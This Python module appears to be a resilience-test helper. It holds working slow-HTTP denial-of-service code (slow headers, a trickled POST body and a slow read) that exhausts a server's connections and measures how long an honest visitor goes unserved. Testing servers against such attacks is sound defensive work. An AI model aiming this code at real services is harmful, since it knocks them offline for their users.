"""Clients that never finish: heads, bodies and readings as slow as can be, on more connections than a server has."""

import contextlib
import selectors
import socket
import time
from dataclasses import dataclass

HEAD = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: "
BODY = b"POST /form HTTP/1.1\r\nHost: 127.0.0.1\r\nOrigin: http://127.0.0.1\r\nContent-Length: 60000\r\n"
BODY += b"Content-Type: application/x-www-form-urlencoded\r\n\r\nq1="
READ = b"GET /static/form.mjs HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
EVERY = 1.0  # second, a byte of head or body


@dataclass
class Slow:
    """How long the service was away, in seconds, and how many slow connections were left open at the end."""

    away: float = 0.0
    left: int = 0


def attacked(host, port, connections, seconds, serves):
    """Holds so many slow connections for so long; `serves` says whether an honest visitor is served just now."""
    held = [each for each in (_begun(host, port, number) for number in range(connections)) if each]
    begin = served_at = time.monotonic()
    found = Slow()
    next_byte = begin + EVERY
    while time.monotonic() - begin < seconds:
        if serves():
            served_at = time.monotonic()
        found.away = max(found.away, time.monotonic() - served_at)
        if time.monotonic() >= next_byte:
            next_byte += EVERY
            held = [each for each in held if _goes_on(each)]
        time.sleep(0.1)
    found.left = sum(_is_open(each) for each in held)
    for _, connection in held:
        connection.close()
    return found


def _begun(host, port, number):
    kind = (HEAD, BODY, READ)[number % 3]
    connection = socket.socket()
    if kind is READ:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
    connection.settimeout(0.2)
    try:
        connection.connect((host, port))
        connection.sendall(kind)
    except OSError:
        connection.close()
        return None
    return kind, connection


def _goes_on(held):
    """Sends one more byte; False where the server has let go."""
    kind, connection = held
    try:
        if kind is READ:  # whether it is closed shows only when what waits is read
            return True
        with selectors.DefaultSelector() as ready:
            ready.register(connection, selectors.EVENT_READ)
            if ready.select(0) and not connection.recv(4096):
                return False
        connection.send(b"a")
    except OSError:
        return False
    return True


def _is_open(held):
    """Whether a connection still stands when all that waits there is read."""
    kind, connection = held
    if kind is not READ:
        return _goes_on(held)
    connection.settimeout(2)
    with contextlib.suppress(ConnectionError):
        try:
            while connection.recv(65536):
                pass
        except TimeoutError:
            return True
    return False
